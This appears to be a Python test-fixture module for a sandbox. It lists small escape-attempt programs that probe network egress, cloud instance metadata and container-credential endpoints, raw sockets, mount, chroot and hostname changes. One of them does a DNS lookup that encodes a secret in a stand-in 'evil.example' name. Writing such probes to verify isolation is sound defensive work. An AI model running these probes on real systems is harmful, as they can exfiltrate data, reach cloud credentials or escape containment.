"""Programs that try to reach something outside, or to use rights that lead there.

Each prints `ESCAPED` when it did.
"""

from __future__ import annotations

_KNOCK = """
import socket
try:
    with socket.create_connection(({address!r}, {port}), timeout=5) as sock:
        sock.settimeout(5)
        sock.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
        print(sock.recv(1000).decode("latin-1"))
except OSError as error:
    print(error)
"""
_SEND = """
import socket
try:
    with socket.socket({family}, socket.SOCK_DGRAM) as sock:
        sock.settimeout(5)
        sock.sendto(b"hello", ({address!r}, {port}))
        print(sock.recv(100).decode("latin-1"))
except OSError as error:
    print(error)
"""
_ASK = """
import socket
query = b"\\1\\2\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + b"\\6secret\\4evil\\7example\\0\\0\\1\\0\\1"
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(5)
        sock.sendto(query, ({address!r}, 53))
        print("ESCAPED" if sock.recv(512)[7] else "no answer to the question")
except OSError as error:
    print(error)
"""
_NAMED = """
import os, socket
for name in list(os.environ):
    if name.startswith("AWS_") or "CA" in name:
        del os.environ[name]
try:
    with socket.create_connection(("sqs.us-east-1.amazonaws.com", {port}), timeout=5) as sock:
        sock.settimeout(5)
        sock.sendall(b"GET / HTTP/1.1\\r\\nHost: sqs.us-east-1.amazonaws.com\\r\\n\\r\\n")
        print(sock.recv(1000).decode("latin-1"))
except OSError as error:
    print(error)
"""
_RESOLVE = """
import socket
try:
    print("ESCAPED", socket.gethostbyname("c2VjcmV0.evil.example"))
except OSError as error:
    print(error)
"""
_ENVIRONMENT = """
import subprocess
program = '''{program}'''
ended = subprocess.run(
    ["env", "-i", "/usr/bin/python3", "-c", program], capture_output=True, text=True
)
print(ended.stdout, ended.stderr)
"""
_PROXY = """
import os, socket
proxy = (os.environ.get("HTTPS_PROXY") or "http://10.1.2.3:8443").rpartition("/")[2].split(":")
try:
    with socket.create_connection((proxy[0], int(proxy[1])), timeout=5) as sock:
        sock.settimeout(5)
        sock.sendall(b"CONNECT sqs.us-east-1.amazonaws.com:443 HTTP/1.1\\r\\n\\r\\n")
        print(sock.recv(1000).decode("latin-1"))
except OSError as error:
    print(error)
"""
_ABSTRACT = """
import socket
try:
    with socket.socket(socket.AF_UNIX) as sock:
        sock.connect("\\0outside")
        print(sock.recv(100).decode())
except OSError as error:
    print(error)
"""
_INTERFACE = """
import socket
try:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as sock:
        sock.bind(("lo", 0))
        print("ESCAPED")
except OSError as error:
    print(error)
"""
_ROUTE = """
import subprocess
ended = subprocess.run(
    "ip link set lo mtu 60000", shell=True, capture_output=True, text=True
)
print("ESCAPED" if ended.returncode == 0 else ended.stderr)
"""
_MOUNT = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
if libc.mount(b"none", b"/mnt", b"tmpfs", 0, None) == 0:
    libc.umount(b"/mnt")
    print("ESCAPED")
else:
    print(os.strerror(ctypes.get_errno()))
"""
_NAME = """
import socket
try:
    socket.sethostname("elsewhere")
    print("ESCAPED")
except OSError as error:
    print(error)
"""
_ROOT = """
import os
try:
    os.chroot("/")
    print("ESCAPED")
except OSError as error:
    print(error)
"""

ATTEMPTS = {
    "the address of an AWS endpoint": _KNOCK.format(address="52.94.5.5", port=443),
    "another port of it": _KNOCK.format(address="52.94.5.5", port=8443),
    "ssh": _KNOCK.format(address="52.94.5.5", port=22),
    "its IPv6 address": _KNOCK.format(address="2600:1f18::5", port=443),
    "datagrams": _SEND.format(family="socket.AF_INET", address="52.94.5.5", port=443),
    "datagrams on IPv6": _SEND.format(family="socket.AF_INET6", address="2600:1f18::5", port=443),
    "a name server of its own choice": _ASK.format(address="8.8.8.8"),
    "a name that carries a secret": _RESOLVE,
    "a name server over TCP": _KNOCK.format(address="8.8.8.8", port=53),
    "instance metadata": _KNOCK.format(address="169.254.169.254", port=80),
    "instance metadata on IPv6": _KNOCK.format(address="fd00:ec2::254", port=80),
    "container credentials": _KNOCK.format(address="169.254.170.2", port=80),
    "the sandbox's own port": _KNOCK.format(address="127.0.0.1", port=4566),
    "the sandbox's own port on IPv6": _KNOCK.format(address="::1", port=4566),
    "the sandbox's own port at the machine's address": _KNOCK.format(address="10.1.2.3", port=4566),
    "a proxy": _PROXY,
    "a socket without a file": _ABSTRACT,
    "raw packets": _INTERFACE,
    "the interface's settings": _ROUTE,
    "a file system": _MOUNT,
    "the machine's name": _NAME,
    "another root": _ROOT,
    "a name without variables": _NAMED.format(port=80),
    "a name with an empty environment": _ENVIRONMENT.format(
        program=_NAMED.format(port=80).replace("\\", "\\\\")
    ),
}
